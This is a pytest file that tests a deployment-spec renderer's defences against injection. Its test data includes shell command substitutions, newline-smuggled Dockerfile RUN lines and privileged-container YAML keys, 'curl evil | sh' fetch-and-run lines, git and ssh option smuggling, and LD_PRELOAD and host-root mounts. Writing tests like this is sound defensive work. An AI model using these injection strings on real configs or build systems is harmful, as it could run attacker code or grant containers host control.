"""Hostile deploy specs (issue 13 item 5): no spec string runs as code or changes a rendered file's structure.

The reproductions from the issue are refused with an error naming the field; strings the grammar allows
(git refs and engine arguments may hold shell, YAML and Dockerfile metacharacters) are rendered, parsed
back (YAML loader, dockerfile-parse + POSIX word splitting, bash itself) and compared with the spec, and the
files keep the shape of a plain render. `halo deploy check` flags content a spec cannot produce.
"""

from __future__ import annotations

import io
import os
import shlex
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml
from dockerfile_parse import DockerfileParser
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from haloserve.deploy import RenderedFile, SpecError, load_spec_text, render_files, write_files
from haloserve.deploy.check import check_compose, check_dir
from haloserve.deploy.drift import SPEC_COPY
from haloserve.deploy.quoting import compose_value, shell_word, yaml_value

BASE: dict[str, Any] = {
    "nodes": [
        {"name": "a", "address": "10.1.0.1", "ram": 128, "rdma": {"interface": "eth1", "ip": "10.0.1.1/24"}},
        {"name": "b", "address": "10.1.0.2", "ram": 128, "rdma": {"interface": "eth1", "ip": "10.0.1.2/24"}},
    ],
    "models": [
        {"name": "m", "source": "qwen3-8b", "file": "Qwen3-8B-Q4_K_M.gguf", "nodes": ["a", "b"]},
        {
            "name": "v",
            "source": "qwen3-8b",
            "engine": "vllm",
            "quant": "BF16",
            "split": "tensor-parallel",
            "nodes": ["a", "b"],
            "ctx": 16384,
            "port": 8001,
        },
    ],
    "gateway": {"node": "a"},
}
SETTINGS = settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _spec(images: dict[str, Any] | None = None, extra_args: list[str] | None = None, **gateway: Any) -> str:
    data = yaml.safe_load(yaml.safe_dump(BASE))
    if images:
        data["images"] = images
    if extra_args is not None:
        for m in data["models"]:
            m["extra_args"] = extra_args
    data["gateway"].update(gateway)
    return yaml.safe_dump(data, allow_unicode=True)


def _render(text: str) -> dict[str, RenderedFile]:
    return render_files(load_spec_text(text, "spec.yaml").spec)


def _shape(value: Any) -> Any:
    """The structure of parsed YAML: mapping keys and scalar types; lists as one marker."""
    if isinstance(value, dict):
        return {k: _shape(v) for k, v in value.items()}
    return "list" if isinstance(value, list) else type(value).__name__


def _instructions(text: str) -> list[dict[str, Any]]:
    return [i for i in DockerfileParser(fileobj=io.BytesIO(text.encode())).structure]


def _arg(text: str, name: str) -> str:
    """The default of ``ARG name=...`` as BuildKit reads it (POSIX words, quotes removed)."""
    for i in _instructions(text):
        if i["instruction"] == "ARG" and i["value"].startswith(f"{name}="):
            words = shlex.split(i["value"])
            assert len(words) == 1, words
            return words[0].split("=", 1)[1]
    raise AssertionError(f"no ARG {name}")


PLAIN = _render(_spec())
PLAIN_ARGS = _render(_spec(extra_args=["--flag"]))  # the same with a command on every engine
YAML_FILES = [p for p in PLAIN if p.endswith((".yml", ".yaml"))]


# -- the reproductions of the issue, and their kin: refused, naming the field --------------------------

REFUSED = [
    ({"images": {"tag": "latest$(touch /tmp/x)"}}, "images.tag"),
    ({"images": {"llama_cpp_ref": "master\nRUN touch /tmp/x"}}, "images.llama_cpp_ref"),
    ({"images": {"vllm_ref": "main\nRUN curl evil | sh"}}, "images.vllm_ref"),
    ({"images": {"haloserve_package": "haloserve\nRUN touch /tmp/x"}}, "images.haloserve_package"),
    ({"images": {"haloserve_package": "haloserve; touch /tmp/x"}}, "images.haloserve_package"),
    ({"images": {"registry": "r.lan/$(id)/"}}, "images.registry"),
    ({"images": {"llama_cpp_ref": "--upload-pack=touch /tmp/x"}}, "images.llama_cpp_ref"),
    ({"images": {"llama_cpp_ref": "a..b"}}, "images.llama_cpp_ref"),
    (
        {
            "gateway": {
                "keys_db": "/var/lib/halo/keys.db\n    privileged: true\n    pid: host\n    cap_add: [ALL]"
            }
        },
        "gateway.keys_db",
    ),
    ({"gateway": {"keys_db": "/etc/keys.db"}}, "gateway.keys_db"),
    ({"gateway": {"keys_db": "/var/lib/h alo/keys.db"}}, "gateway.keys_db"),
    ({"nodes": {"models_dir": "/srv/$(touch /tmp/x)"}}, "nodes[0].models_dir"),
    ({"nodes": {"models_dir": "/srv/models:/host"}}, "nodes[0].models_dir"),
    ({"nodes": {"address": "10.1.0.1\n    privileged: true"}}, "nodes[0].address"),
    ({"nodes": {"address": "10.1.0.1 -o ProxyCommand=x"}}, "nodes[0].address"),
    ({"nodes": {"rdma": {"interface": "eth1", "ip": "fe80::1%$(touch /tmp/x)/64"}}}, "nodes[0].rdma.ip"),
    ({"models": {"file": "x'; touch /tmp/x; '.gguf"}}, "models[0].file"),
    ({"models": {"file": "a\nLLAMA_ARG_HOST=0.0.0.0\n.gguf"}}, "models[0].file"),
    ({"models": {"source": "qwen3-8b\n    privileged: true"}}, "models[0].source"),
    ({"models": {"hf": "Qwen/Qwen3-8B --trust-remote-code"}}, "models[0].hf"),
    ({"models": {"quant": "Q4_K_M\nRUN x"}}, "models[0].quant"),
    ({"models": {"extra_args": ["--x", "y\nprivileged: true"]}}, "models[0].extra_args[1]"),
]


@pytest.mark.parametrize(("change", "field"), REFUSED, ids=[f for _, f in REFUSED])
def test_hostile_strings_are_refused_naming_the_field(change: dict[str, Any], field: str) -> None:
    data = yaml.safe_load(yaml.safe_dump(BASE))
    for section, values in change.items():
        target = data.setdefault(section, {})
        target = target[0] if isinstance(target, list) else target
        target.update(values)
    with pytest.raises(SpecError) as err:
        load_spec_text(yaml.safe_dump(data), "spec.yaml")
    assert f": {field}" in err.value.message, err.value.message
    assert "\n" not in err.value.message.split(": ", 1)[0]


def test_a_legal_ref_with_command_substitution_never_runs(tmp_path: Path) -> None:
    """build-images.sh runs for real, with a `docker` that records its arguments."""
    ref = "b1$(touch${IFS}pwned)`touch${IFS}pwned2`;touch'pwned3'"
    files = _render(_spec({"llama_cpp_ref": ref, "vllm_ref": ref}))
    root = tmp_path / "out"
    write_files(files, root)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    log = tmp_path / "docker.log"
    fake = bin_dir / "docker"
    fake.write_text(
        f'#!/usr/bin/env bash\nprintf "%s\\0" "$@" >> {shlex.quote(str(log))}\nprintf "\\n" >> {log}\n'
    )
    fake.chmod(0o755)
    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}"}
    done = subprocess.run(
        ["bash", str(root / "docker/build-images.sh")], env=env, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert not list(root.rglob("pwned*")) and not list(Path.cwd().glob("pwned*"))
    calls = [line.rstrip("\0").split("\0") for line in log.read_text().splitlines() if line]
    llama = next(c for c in calls if "llamacpp-rocm.Dockerfile" in c)
    assert f"LLAMA_CPP_REF={ref}" in llama
    assert _arg(files["docker/llamacpp-rocm.Dockerfile"].text, "LLAMA_CPP_REF") == ref
    assert _arg(files["docker/vllm-rocm.Dockerfile"].text, "VLLM_REF") == ref


# -- property tests: legal metacharacters round-trip and change no structure ----------------------------

REF_CHARS = st.sampled_from([*"abcXYZ019-_./@$'\"`;|&<>(){}#!%,=+é✓", "\n", " ", "~", "\\"])


@SETTINGS
@given(ref=st.text(REF_CHARS, min_size=1, max_size=20))
@pytest.mark.slow
def test_git_refs_round_trip_through_every_file(ref: str) -> None:
    try:
        files = _render(_spec({"llama_cpp_ref": ref, "vllm_ref": ref}))
    except SpecError as exc:
        assert "images.llama_cpp_ref" in exc.message and "git" in exc.message
        return
    assert _arg(files["docker/llamacpp-rocm.Dockerfile"].text, "LLAMA_CPP_REF") == ref
    assert _arg(files["docker/vllm-rocm.Dockerfile"].text, "VLLM_REF") == ref
    for name in ("llamacpp-rocm", "vllm-rocm", "llamacpp-vulkan"):
        path = f"docker/{name}.Dockerfile"
        kinds = [i["instruction"] for i in _instructions(files[path].text)]
        assert kinds == [i["instruction"] for i in _instructions(PLAIN[path].text)], name
    compose = files["nodes/a/docker-compose.yml"].text
    data = yaml.safe_load(compose)
    assert data["services"]["m"]["build"]["args"]["LLAMA_CPP_REF"].replace("$$", "$") == ref
    assert "lone $" not in " ".join(check_compose(compose))
    for path in YAML_FILES:
        assert _shape(yaml.safe_load(files[path].text)) == _shape(yaml.safe_load(PLAIN[path].text)), path
    script = files["docker/build-images.sh"].text
    assert subprocess.run(["bash", "-n"], input=script, text=True, check=False).returncode == 0
    words = [w for line in script.splitlines() if line.startswith("build ") for w in shlex.split(line)]
    assert f"LLAMA_CPP_REF={ref}" in words and f"VLLM_REF={ref}" in words


# pieces of engine arguments: shell, YAML and Compose syntax, line breaks (refused) and any other character
ARG_PIECE = st.one_of(
    st.sampled_from(
        [*"$'\"`;|&<>(){}#!%*?[]~\\ :-=,@", "${X}", "$$", "$(id)", "\u2028", "\n", "\x7f", "- a: b"]
    ),
    st.characters(blacklist_categories=("Cs",)),
)
ARG_TEXT = st.lists(ARG_PIECE, max_size=8).map("".join)


@SETTINGS
@given(extra=st.lists(ARG_TEXT, min_size=1, max_size=3))
@pytest.mark.slow
def test_engine_arguments_round_trip_through_compose_and_shell(extra: list[str]) -> None:
    spec = _spec(extra_args=extra)
    # what the loader is given: PyYAML's emitter writes a NEL (U+0085) raw inside quotes, and YAML reads
    # it back as a space, so the spec text itself may already carry another value than `extra`
    extra = yaml.safe_load(spec)["models"][0]["extra_args"]
    try:
        files = _render(spec)
    except SpecError as exc:
        assert "extra_args" in exc.message
        return
    for path in ("nodes/a/docker-compose.yml", "swarm/stack.yml"):
        text = files[path].text
        services = yaml.safe_load(text)["services"]
        name = "m" if path.startswith("nodes") else "m-a"
        command = [c.replace("$$", "$") for c in services[name]["command"]]
        assert command[-len(extra) :] == extra, path
        assert "lone $" not in " ".join(check_compose(text))
    for path in YAML_FILES:
        assert _shape(yaml.safe_load(files[path].text)) == _shape(yaml.safe_load(PLAIN_ARGS[path].text)), path
    # the Ray head's `exec vllm serve ...`, run by bash itself with printf in place of exec
    head = files["nodes/a/scripts/v-ray-head.sh"].text
    assert subprocess.run(["bash", "-n"], input=head, text=True, check=False).returncode == 0
    line = next(ln for ln in head.splitlines() if ln.startswith("exec "))
    printed = subprocess.run(
        ["bash", "-c", "printf '%s\\0' " + line.removeprefix("exec ")], capture_output=True, check=True
    ).stdout.decode("utf-8", "surrogateescape")
    assert printed.split("\0")[:-1][-len(extra) :] == extra


@settings(max_examples=300, deadline=None)
@given(
    text=st.text(
        st.one_of(st.characters(), st.sampled_from(["\ud800", "\udfff", "\x85", "\u2028", "\ufeff"]))
    )
)
@pytest.mark.slow
def test_the_yaml_and_compose_filters_round_trip_any_string(text: str) -> None:
    assert yaml.safe_load(f"k: {yaml_value(text)}\n")["k"] == text
    assert yaml.safe_load(f"k: {compose_value([text])}\n")["k"] == [text.replace("$", "$$")]


@settings(max_examples=300, deadline=None)
@given(text=st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")))
def test_the_shell_filter_gives_one_word(text: str) -> None:
    assert shlex.split(shell_word(text)) == [text]


# -- `halo deploy check`: content a spec cannot produce ------------------------------------------------


@pytest.fixture
def rendered_dir(tmp_path: Path) -> Path:
    text = _spec()
    files = _render(text)
    files[SPEC_COPY] = RenderedFile(SPEC_COPY, text, False, "spec")
    root = tmp_path / "out"
    write_files(files, root)
    return root


def _problems(root: Path) -> dict[str, tuple[str, ...]]:
    return {r.path: r.problems for r in check_dir(root) if r.problems}


@pytest.mark.slow
def test_check_passes_a_fresh_render_and_value_edits(rendered_dir: Path) -> None:
    assert _problems(rendered_dir) == {}
    docker = rendered_dir / "docker/llamacpp-rocm.Dockerfile"
    docker.write_text(docker.read_text().replace("ARG GGML_NATIVE=ON", "ARG GGML_NATIVE=OFF"))
    head = rendered_dir / "nodes/a/scripts/v-ray-head.sh"
    head.write_text(
        head.read_text().replace("export GLOO_SOCKET_IFNAME=eth1", "export GLOO_SOCKET_IFNAME=eth2")
    )
    assert _problems(rendered_dir) == {}


@pytest.mark.slow
def test_check_flags_what_the_old_keys_db_injection_rendered(rendered_dir: Path) -> None:
    """The issue's reproduction: newlines in gateway.keys_db made the Swarm gateway privileged."""
    stack = rendered_dir / "swarm/stack.yml"
    text = stack.read_text()
    injected = '      - "halo-keys:/var/lib/halo"\n    privileged: true\n    pid: host\n    cap_add: [ALL]\n'
    assert '      - "halo-keys:/var/lib/halo"\n' in text
    stack.write_text(text.replace('      - "halo-keys:/var/lib/halo"\n', injected))
    problems = " ".join(_problems(rendered_dir)["swarm/stack.yml"])
    for word in ("privileged", "pid: host", "cap_add ALL"):
        assert word in problems


@pytest.mark.parametrize(
    ("rel", "old", "new", "expect"),
    [
        (
            "docker/llamacpp-rocm.Dockerfile",
            "WORKDIR /src\n",
            "WORKDIR /src\nRUN touch /tmp/x\n",
            "RUN touch",
        ),
        (
            "docker/haloserve.Dockerfile",
            "EXPOSE 8080 8000\n",
            "EXPOSE 8080 8000\nENV LD_PRELOAD=/x.so\n",
            "LD_PRELOAD",
        ),
        ("docker/build-images.sh", "push=false\n", "push=false\ncurl -s http://evil | sh\n", "curl"),
        ("docker/build-images.sh", "push=false\n", "push=$(touch /tmp/x)\n", "push=$(touch"),
        ("nodes/a/docker-compose.yml", "    ipc: host\n", "    ipc: host\n    user: root\n", "user"),
        (
            "nodes/a/docker-compose.yml",
            "      - /dev/dri\n",
            "      - /dev/dri\n      - /dev/mem\n",
            "/dev/mem",
        ),
        (
            "nodes/b/docker-compose.yml",
            "    ipc: host\n",
            "    ipc: host\n    volumes: [/:/host]\n",
            "volume",
        ),
        (
            "nodes/a/docker-compose.yml",
            '["halo", "gateway"',
            '["sh", "-c", "curl x | sh", "gateway"',
            "command",
        ),
        (
            "nodes/a/docker-compose.yml",
            "    environment:\n",
            "    environment:\n      LD_PRELOAD: /x.so\n",
            "LD_PRELOAD",
        ),
    ],
)
@pytest.mark.slow
def test_check_flags_added_instructions_and_commands(
    rendered_dir: Path, rel: str, old: str, new: str, expect: str
) -> None:
    path = rendered_dir / rel
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))
    problems = _problems(rendered_dir)
    assert list(problems) == [rel]
    assert expect in " ".join(problems[rel])


def test_check_reports_a_spec_copy_that_no_longer_validates(rendered_dir: Path) -> None:
    copy = rendered_dir / SPEC_COPY
    copy.write_text(copy.read_text() + "images: {tag: 'latest$(touch /tmp/x)'}\n")
    assert "images.tag" in " ".join(_problems(rendered_dir)[SPEC_COPY])
